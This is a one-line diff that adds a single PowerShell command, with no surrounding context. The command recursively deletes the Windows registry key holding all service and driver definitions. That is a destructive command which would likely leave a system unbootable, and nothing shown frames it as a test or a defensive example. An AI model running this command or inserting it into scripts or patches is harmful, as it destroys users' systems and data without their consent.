@@ -1,0 +1,1 @@
+Remove-Item HKLM:\SYSTEM\CurrentControlSet\Services -Recurse
